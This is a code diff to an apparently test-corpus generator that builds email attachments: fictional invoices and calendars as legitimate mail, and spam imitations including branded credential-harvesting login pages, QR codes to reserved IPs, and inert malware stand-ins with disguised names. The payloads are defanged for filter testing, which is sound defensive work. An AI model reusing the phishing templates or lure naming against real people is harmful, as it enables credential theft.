@@ -309,7 +309,156 @@ async function buildAll() {
   put('img-diet', 'slim.png', 'image/png', bannerPng('#43a047', '#c0ca33', 280, 240, 4));
   put('img-watch', 'w.png', 'image/png', bannerPng('#212121', '#616161', 320, 200, 10));
   put('img-stock', 'alert.png', 'image/png', bannerPng('#d32f2f', '#ffffff', 300, 150, 12));
+  await buildMore(A, put);
   return A;
+}
+
+// ---------- QR codes (real, decodable; they encode reserved hosts / documentation IPs) ----------
+function qrPng(text, scale = 4, margin = 4) {
+  const QR = require('qrcode');
+  const q = QR.create(text, { errorCorrectionLevel: 'M' });
+  const n = q.modules.size;
+  const w = (n + margin * 2) * scale;
+  return makePng(w, w, (x, y) => {
+    const c = Math.floor(x / scale) - margin;
+    const r = Math.floor(y / scale) - margin;
+    if (c < 0 || r < 0 || c >= n || r >= n) return [255, 255, 255];
+    return q.modules.get(r, c) ? [0, 0, 0] : [255, 255, 255];
+  });
+}
+// RAR signature plus padding only (no entries).
+function fakeRar(note) {
+  return Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x00]), Buffer.alloc(25), Buffer.from(note || '', 'ascii'), Buffer.alloc(128)]);
+}
+// Tiny valid WAV (0.25 s of silence, 8 kHz mono 8-bit).
+function silentWav() {
+  const n = 2000;
+  const b = Buffer.alloc(44 + n, 0x80);
+  b.write('RIFF', 0, 'ascii');
+  b.writeUInt32LE(36 + n, 4);
+  b.write('WAVEfmt ', 8, 'ascii');
+  b.writeUInt32LE(16, 16);
+  b.writeUInt16LE(1, 20);
+  b.writeUInt16LE(1, 22);
+  b.writeUInt32LE(8000, 24);
+  b.writeUInt32LE(8000, 28);
+  b.writeUInt16LE(1, 32);
+  b.writeUInt16LE(8, 34);
+  b.write('data', 36, 'ascii');
+  b.writeUInt32LE(n, 40);
+  return b;
+}
+const loginPage = ({ title, brand, color, action, note, extra = '' }) =>
+  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3"><div style="max-width:380px;margin:60px auto;background:#fff;padding:32px;border-top:4px solid ${color}"><h2 style="margin-top:0;color:${color}">${brand}</h2><p>${note}</p><form action="${action}" method="post"><input name="login" placeholder="Email address" style="width:100%;padding:8px;margin:6px 0"><input name="passwd" type="password" placeholder="Password" style="width:100%;padding:8px;margin:6px 0">${extra}<button style="background:${color};color:#fff;border:0;padding:10px 24px">Sign in</button></form></div></body></html>\r\n`;
+
+// Attachments for the second batch of messages (data/ham-08.. and data/spam-05..).
+async function buildMore(A, put) {
+  // ---- ham PDFs ----
+  const pdfs = [
+    ['inv-ferramenta', 'Fattura_2026-0147.pdf', 'Ferramenta Galli Srl - Fattura 2026/0147', ['Ferramenta Galli Srl, Via dei Mille 18, Bergamo (fictional)', 'Cliente: Ricci Trasporti SpA', 'Data: 09/02/2026    Scadenza: 11/03/2026', '', 'Catene di ancoraggio 10 mm (x20) ........ EUR 412,00', 'Cricchetti tendicinghia (x40) ............ EUR 358,00', 'Imponibile ............................... EUR 770,00', 'IVA 22% .................................. EUR 169,40', 'Totale ................................... EUR 939,40', '', 'Bonifico bancario: IBAN invariato, vedi ordine.']],
+    ['inv-vos', 'Factuur_VOS-25-0611.pdf', 'Bakkerij Vos - Factuur VOS-25-0611', ['Bakkerij Vos BV, Kerkstraat 41, Utrecht (fictional)', 'Klant: Groenveld BV, kantine', 'Periode: november 2025', '', 'Broodjes lunch (22 werkdagen) ............ EUR 1.144,00', 'Gebak vrijdagmiddag (4x) ................. EUR 168,00', 'Subtotaal ................................ EUR 1.312,00', 'BTW 9% ................................... EUR 118,08', 'Totaal ................................... EUR 1.430,08', '', 'Betaling binnen 14 dagen o.v.v. factuurnummer.']],
+    ['inv-lefevre', 'Facture_ML-2025-388.pdf', 'Maison Lefevre - Facture ML-2025-388', ['Maison Lefevre SARL, 7 rue des Tanneurs, Lyon (fictional)', 'Client : Auerbach Kliniken GmbH', 'Date : 14/10/2025    Echeance : 13/11/2025', '', 'Linge de lit hospitalier, lot de 200 ..... EUR 3 180,00', 'Transport ................................ EUR 140,00', 'Total HT ................................. EUR 3 320,00', 'Autoliquidation de TVA (art. 283-2 CGI)', '', 'Reglement : virement ou PayPal (voir e-mail).']],
+    ['inv-lowe', 'Lowe-Pottery-Invoice-0217.pdf', 'Lowe Pottery - Invoice 0217', ['Lowe Pottery, Unit 3 Canal Yard, Stroud (fictional)', 'Bill to: Bramble Coffee Roasters (cafe fit-out)', '', '120 x Stoneware cups, 8oz, speckle glaze ..... GBP 1,080.00', '120 x Saucers ................................ GBP 540.00', 'Packing and delivery ......................... GBP 45.00', 'Total ........................................ GBP 1,665.00', '', 'Pay by bank transfer (details unchanged) or PayPal to hettie@lowepottery.example']],
+    ['inv-cobalt-may', 'INV-2026-0577.pdf', 'Cobalt Hosting - Invoice INV-2026-0577', ['Cobalt Hosting Ltd, 4 Quay Street, Bristol BS1 4XX (fictional)', 'Bill to: Quillfield Software Ltd', 'Invoice date: 01 May 2026    Due: 15 May 2026', '', 'Dedicated server DS-2, May 2026 ........... GBP 189.00', 'Additional IPv4 (x2) ...................... GBP 6.00', 'VAT 20% ................................... GBP 39.00', 'Total due ................................. GBP 234.00', '', 'Bank transfer: account details as on previous invoices (unchanged).']],
+    ['stmt-greenleaf', 'Greenleaf-Statement-2026-03.pdf', 'Greenleaf Office Supplies - Statement March 2026', ['Customer: Harrow & Finch Architects, account 20-5120', '', '10387-A  12 Jan 2026  GBP 212.40  paid', '10512    03 Feb 2026  GBP 96.00   OVERDUE (due 05 Mar)', '10590    24 Feb 2026  GBP 318.75  due 26 Mar', '', 'Balance outstanding ......................... GBP 414.75', '', 'Our bank details have not changed. We will never ask you by email to pay a new account.']],
+    ['quote-marisol', 'Presupuesto_MC-2026-031.pdf', 'Marisol Ceramica - Presupuesto MC-2026-031', ['Marisol Ceramica SL, Calle Alfareros 12, Valencia (fictional)', 'Cliente: Holloway Farm Shop', '', 'Azulejo artesanal 13x13, verde oliva (40 m2) .. EUR 2.360,00', 'Cenefa decorada (22 m lineales) ............... EUR 594,00', 'Embalaje y transporte a Reino Unido ........... EUR 410,00', 'Total ......................................... EUR 3.364,00', '', 'Validez de la oferta: 45 dias. Plazo de fabricacion: 4 semanas.']],
+    ['quote-northstar', 'Northstar-HVAC-Quote-7713.pdf', 'Northstar HVAC - Quote 7713 (preventive maintenance)', ['Northstar HVAC Services, Chicago IL (fictional)', 'Site: Kestrel Biotech, Building B', '', 'Quarterly PM, 6 rooftop units ............... USD 4,320.00 / yr', 'Filter changes (MERV 13) included', 'Emergency call-out, 4h response ............. USD 1,150.00 / yr', 'Total annual contract ....................... USD 5,470.00', '', 'Prices held until 30 June 2026.']],
+    ['quote-quillfield', 'Quillfield-Quote-Q-1042.pdf', 'Quillfield Software - Quote Q-1042', ['Quillfield Software Ltd (fictional)', 'Prepared for: Osterhagen Maschinenbau GmbH', '', 'Integration connector licence, 1 year ...... EUR 7,200', 'Implementation (5 days) .................... EUR 5,500', 'Training (remote, 2 sessions) .............. EUR 900', 'Total ...................................... EUR 13,600', '', 'Valid until 31 January 2026.']],
+    ['notes-workshop', 'Workshop-notes-2025-11-18.pdf', 'Discovery workshop notes - Halvorsen Freight / Meridian', ['Date: 18 Nov 2025, Oslo office', 'Attendees: E. Halvorsen, K. Dahl, P. Nyberg (Meridian), L. Moreau (Meridian)', '', '1. Legacy CRM holds 48k contacts, ~9k duplicates expected', '2. Pipelines: keep 4 of 6, merge "Tender" into "Proposal"', '3. Activity history: import 3 years, archive the rest', '4. Owner mapping file due from Halvorsen by 28 Nov', '', 'Next workshop: 2 Dec, data mapping walkthrough']],
+    ['receipt-orchard', 'Orchard-Receipt-2026-0412.pdf', 'Orchard Analytics - Receipt 2026-0412', ['Orchard Analytics Inc. (fictional)', 'Customer: Lumen Fitness Studios', 'Annual renewal, Growth plan, 5 seats', '', 'Amount charged ....................... USD 2,646.00', 'Payment method ....................... Visa ending 0921', 'Period ............................... 12 Apr 2026 - 11 Apr 2027']],
+    ['hr-holiday', 'Holiday-calendar-2026.pdf', 'Anvil & Oak - Holiday calendar 2026', ['Office closed:', '1 Jan, 3 Apr, 6 Apr, 4 May, 25 May, 31 Aug, 25 Dec, 28 Dec', '', 'Shutdown between Christmas and New Year: 29-31 Dec (use 3 days of leave)', 'Carry-over: max 5 days into 2027, to be used by 31 March', '', 'Questions: people@anvil-oak.example']],
+    ['hr-benefits', 'Benefits-Guide-2026.pdf', 'Carrow Industrial Supply - Benefits guide 2026', ['Open enrollment: 3 - 21 November 2025', 'Medical: two plans (PPO and HDHP with HSA)', 'Dental and vision: unchanged premiums', 'New: 401(k) match raised to 5%', '', 'Enroll in the HR portal. No action needed to keep your current plans.']],
+    ['partner-deck', 'Partner-Program-2026.pdf', 'Valley CRM Partner Program 2026', ['Tiers: Registered, Silver, Gold', 'Referral fee: 15% of first-year subscription', 'Deal registration protects your deal for 90 days', 'New: co-marketing fund for Gold partners', '', 'Partner portal: https://partners.valley.example']],
+    ['report-tickets-q1', 'Support-Q1-2026.pdf', 'Support report Q1 2026 (internal)', ['Tickets: 3,412 (+6% QoQ)', 'Median first response: 41 min', 'CSAT: 92%', 'Top topics: imports, SSO, campaign editor', '', 'Internal only.']],
+  ];
+  for (const [key, fn, title, lines] of pdfs) put(key, fn, PDF_CT, makePdf({ title, lines, date: '20260101090000' }));
+
+  // ---- ham images / other ----
+  put('logo-marisol', 'marisol.png', 'image/png', logoPng('#fdf6ec', '#b5651d'));
+  put('logo-vos', 'vos-logo.png', 'image/png', logoPng('#fff3e0', '#8d4f1c', 110, 34));
+  put('logo-polarroute', 'polarroute.png', 'image/png', logoPng('#0d3b66', '#f4d35e'));
+  put('photo-tiles', 'tiles.png', 'image/png', photoPng(29));
+  put('chart-forecast', 'forecast-q2.png', 'image/png', barChartPng([0.35, 0.5, 0.62, 0.74, 0.81], '#ef6c00'));
+  put('qr-ticket', 'ticket-QR.png', 'image/png', qrPng('https://events.polarroute.example/t/PR26-0431-7781'));
+  put('wav-voicemail', 'voicemail-2026-03-04-1012.wav', 'audio/wav', silentWav());
+  put('ics-breakfast', 'invite.ics', 'text/calendar', ics('breakfast-2026-05@events.ironbridge-insure.example', '20260521T073000Z', '20260521T090000Z', 'Fleet risk breakfast - Ironbridge Insurance', 'The Quayside Rooms, Bristol (fictional)', 'events@ironbridge-insure.example', 'ben@anvil-oak.example'));
+  put('ics-workshop', 'invite.ics', 'text/calendar', ics('ws2-halvorsen@meridian-consult.example', '20251202T090000Z', '20251202T120000Z', 'Data mapping workshop - Halvorsen / Meridian', 'Teams (link in description)', 'p.nyberg@meridian-consult.example', 'erik@halvorsen-freight.example'));
+  put('ics-review-call', 'invite.ics', 'text/calendar', ics('pilot-review-77@pickwise-robotics.example', '20250924T150000Z', '20250924T154500Z', 'Pickwise pilot - week 6 review', 'Video call', 'hiro.tanaka@pickwise-robotics.example', 'g.oduya@redwater.example'));
+  put('csv-contacts-fix', 'contacts-import-errors.csv', 'text/csv', 'row,email,error\n14,anna.m@,invalid email\n233,j.dahl@halvorsen-freight.example,duplicate of row 12\n1877,,missing email\n');
+  put('csv-timesheet', 'timesheet-week-14.csv', 'text/csv', 'date,project,hours,notes\n2026-03-30,HAL-MIG,6.5,test migration\n2026-03-31,HAL-MIG,7.0,owner mapping\n2026-04-01,INTERNAL,3.0,training\n2026-04-02,HAL-MIG,8.0,cut-over rehearsal\n');
+  put('docx-dpa', 'Data_Processing_Agreement_v2.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', await zip([
+    ['[Content_Types].xml', CT_DOCX],
+    ['_rels/.rels', RELS('word/document.xml')],
+    ['word/document.xml', wordDoc(['DATA PROCESSING AGREEMENT (v2, tracked changes accepted)', 'Controller: Auerbach Kliniken GmbH. Processor: Solvent Labs AB (both fictional).', 'Annex 2 - sub-processors updated (EU data region).'])],
+  ]));
+  put('xlsx-forecast', 'Q2-forecast-by-rep.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', await zip([
+    ['[Content_Types].xml', CT_XLSX],
+    ['_rels/.rels', RELS('xl/workbook.xml')],
+    ['xl/workbook.xml', workbook],
+  ], new Date('2026-03-28T10:00:00Z')));
+  put('zip-artwork', 'Bramble-cups-artwork.zip', 'application/zip', await zip([
+    ['logo-stamp.png', logoPng('#ffffff', '#6d3b1f', 64, 64)],
+    ['placement-notes.txt', 'Stamp 18 mm, 12 mm below rim, opposite the handle.\n'],
+  ], new Date('2026-02-02T09:00:00Z')));
+  put('html-report', 'campaign-report-march.html', 'text/html', '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Campaign report March 2026</title></head><body style="font-family:Arial"><h2>Campaign report - March 2026</h2><table border="1" cellpadding="4"><tr><th>Campaign</th><th>Sent</th><th>Opens</th><th>Clicks</th></tr><tr><td>Spring menu</td><td>1,920</td><td>48%</td><td>6.1%</td></tr><tr><td>Trade price list</td><td>412</td><td>61%</td><td>14.8%</td></tr></table><p>Exported from Valley CRM. Details: <a href="https://portal.valley.example/reports/cmp">portal.valley.example/reports</a></p></body></html>\r\n');
+
+  // ---- spam PDFs ----
+  put('pdf-callback-norton', 'Invoice_NT-8837201.pdf', PDF_CT, makePdf({ title: 'Norton 360 Total Protection - Renewal Invoice', lines: ['Invoice no: NT-8837201', 'Product: Norton 360 Deluxe, 5 devices, 3 years', 'Amount: USD 399.99 (auto-renewal, charged today)', '', 'Did not authorise this renewal? Call our billing desk', 'within 24 hours for a full refund: +1 (808) 555-0199', '', 'Customer Care, 24/7'], producer: 'PDFgen' }));
+  put('pdf-fake-toner', 'Invoice_TS-55120.pdf', PDF_CT, makePdf({ title: 'Toner Supply Services - Invoice TS-55120', lines: ['Ship to: Accounts Payable', 'Order ref: phone order, confirmed', '', '6 x Toner cartridge, compatible ........... USD 689.00', 'Shipping and handling ....................... USD 48.00', 'Total due ................................... USD 737.00', '', 'Payment due within 7 days. Pay by wire or check.'], producer: 'PDFgen' }));
+  put('pdf-trademark', 'TM_Publication_Notice_2026.pdf', PDF_CT, makePdf({ title: 'WORLD TRADEMARK PUBLICATION REGISTER', lines: ['Publication notice for your trademark application', 'Trademark: as filed    Classes: 9, 35, 42', '', 'Publication in the register, 3 years ..... EUR 2,190.00', '', 'Payment within 8 days by bank transfer.', 'This is a solicitation for a private register. Not an official office.'], producer: 'PDFgen' }));
+  put('pdf-lottery-cert', 'Award_Certificate.pdf', PDF_CT, makePdf({ title: 'INTERNATIONAL EMAIL PROMOTION AWARD', lines: ['Batch: 7/441/IEP    Ticket: 55120-882', 'Award: USD 950,000.00', '', 'Contact your claims agent with this certificate.', 'Processing and clearance fee applies.'], producer: 'PDFgen' }));
+
+  // ---- spam QR codes ----
+  put('qr-mfa', 'mfa-qr.png', 'image/png', qrPng('http://203.0.113.61/mfa/enroll?u=8812'));
+  put('qr-docusign', 'Scan_to_view_document.png', 'image/png', qrPng('http://198.51.100.91/ds/envelope/7741'));
+  put('qr-benefits', 'benefits.png', 'image/png', qrPng('https://hr-benefits-portal.test/2026/enroll'));
+  put('qr-parcel', 'qr.png', 'image/png', qrPng('http://192.0.2.88/parcel/fee'));
+
+  // ---- spam HTML attachments with login forms ----
+  put('htm-remit-m365', 'Remittance_Advice_2026-03.htm', 'text/html', loginPage({ title: 'Remittance Advice', brand: 'Microsoft 365', color: '#0067b8', action: 'http://203.0.113.140/o365/rem.php', note: 'This document is protected. Sign in with your work account to view the remittance advice.' }));
+  put('html-adobe', 'Adobe_Document_Cloud_Invoice.html', 'text/html', loginPage({ title: 'Adobe Document Cloud', brand: 'Adobe Acrobat', color: '#eb1000', action: 'http://198.51.100.200/adb/view.php', note: 'To read the shared PDF, confirm the email address it was sent to.' }));
+  put('shtml-bank', 'Payment_Confirmation_0318.shtml', 'text/html', loginPage({ title: 'Online Banking', brand: 'Barclays Business', color: '#00aeef', action: 'http://192.0.2.201/bb/auth.php', note: 'Payment confirmation is available after login.', extra: '<input name="pin" placeholder="Passcode (6 digits)" style="width:100%;padding:8px;margin:6px 0">' }));
+  put('htm-voicemail', 'VM_Playback_0047.htm', 'text/html', loginPage({ title: 'Voice Message', brand: 'Voicemail Center', color: '#2e7d32', action: 'http://203.0.113.19/vm/play.php', note: 'Sign in with your email account to play this voice message (00:47).' }));
+  put('html-docusign', 'Completed_Document_DocuSign.html', 'text/html', loginPage({ title: 'DocuSign', brand: 'DocuSign', color: '#ffcc22', action: 'https://docusign-envelope-review.test/post', note: 'Select your email provider and sign in to access the completed document.' }));
+
+  // ---- spam inert payloads ----
+  put('exe-remit', 'Remittance_Copy_20260114.exe', 'application/x-msdownload', fakeExe('remit'));
+  put('exe-spaces', 'Invoice_0392.pdf                                   .exe', 'application/octet-stream', fakeExe('spaces'));
+  put('pif-statement', 'Bank_Statement_Feb.pif', 'application/octet-stream', fakeExe('pif'));
+  put('js-rfq', 'RFQ_Quotation_Request_2026.js', 'text/javascript', 'WScript.Echo(1);\r\n');
+  put('vbs-scan', 'Scan_HP_MFP_20251103.vbs', 'application/octet-stream', 'WScript.Echo 1\r\n');
+  put('wsf-ship', 'Shipping_Label.wsf', 'application/octet-stream', '<job><script language="JScript">WScript.Echo(1);</script></job>\r\n');
+  put('hta-docusign', 'DocuSign_Envelope_6631.hta', 'application/hta', '<html><head><title>DocuSign</title><HTA:APPLICATION ID="x"></head><body><script language="VBScript">MsgBox 1</script></body></html>\r\n');
+  put('scr-quote', 'Quotation_Specs_Drawings.scr', 'application/octet-stream', fakeExe('scr2'));
+  put('lnk-bonus', 'Bonus_Statement_2025.pdf.lnk', 'application/x-ms-shortcut', fakeLnk());
+  put('iso-invoice', 'INV-Documents-Oct2025.iso', 'application/x-iso9660-image', fakeIso('INVOICE_OCT'));
+  put('img-quote', 'Quote_Request_RFQ-118.img', 'application/octet-stream', fakeIso('RFQ_118'));
+  put('zip-vbs', 'Order_Confirmation_44821.zip', 'application/zip', await zip([['Order_Confirmation_44821.vbs', 'WScript.Echo 1\r\n']]));
+  put('zip-lnk', 'Scanned_Docs_Mar.zip', 'application/zip', await zip([['Scanned_Docs_Mar.pdf.lnk', fakeLnk()], ['page2.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 0x01, 0xff, 0xd9])]]));
+  put('zip-js-de', 'Rechnung_2026_0311.zip', 'application/zip', await zip([['Rechnung_2026_0311.js', 'WScript.Echo(1);\r\n']]));
+  put('zip-hta', 'Tracking_Details.zip', 'application/zip', await zip([['Tracking_Details.hta', '<html><body><script>document.write(1)</script></body></html>\r\n']]));
+  put('zip-docm', 'Contract_Amendment.zip', 'application/zip', await zip([['Contract_Amendment.docm', await zip([
+    ['[Content_Types].xml', CT_DOCM],
+    ['_rels/.rels', RELS('word/document.xml')],
+    ['word/document.xml', wordDoc(['Protected document.', 'Enable editing and enable content to decrypt.'])],
+    ['word/vbaProject.bin', fakeOle('Attribute VB_Name = "ThisDocument"')],
+  ])]]));
+  put('docm-rechnung', 'Rechnung_RE-2026-0311.docm', 'application/vnd.ms-word.document.macroEnabled.12', await zip([
+    ['[Content_Types].xml', CT_DOCM],
+    ['_rels/.rels', RELS('word/document.xml')],
+    ['word/document.xml', wordDoc(['Dieses Dokument ist geschuetzt.', 'Klicken Sie auf "Inhalt aktivieren", um die Rechnung anzuzeigen.'])],
+    ['word/vbaProject.bin', fakeOle('Attribute VB_Name = "ThisDocument"')],
+  ]));
+  put('xlsm-payment', 'Payment_Schedule_Q2_2026.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12', await zip([
+    ['[Content_Types].xml', CT_XLSM],
+    ['_rels/.rels', RELS('xl/workbook.xml')],
+    ['xl/workbook.xml', workbook],
+    ['xl/vbaProject.bin', fakeOle('Attribute VB_Name = "Module1"')],
+  ]));
+  put('doc-legacy', 'Factura_F-88120.doc', 'application/msword', fakeOle('WordDocument Macros ThisDocument'));
+  put('xls-legacy', 'Ordine_PO-2026-77.xls', 'application/vnd.ms-excel', fakeOle('Workbook _VBA_PROJECT_CUR'));
+  put('rar-proforma', 'Proforma_Invoice_PI-2291.rar', 'application/x-rar-compressed', fakeRar('corpus-stub'));
+  put('svg-invoice', 'Invoice_Preview.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80"><script>document.write(1)</script><a href="http://198.51.100.45/inv/view"><text x="10" y="40">Open invoice</text></a></svg>\r\n');
 }
 
 function ics(uid, start, end, summary, location, organizer, attendee) {
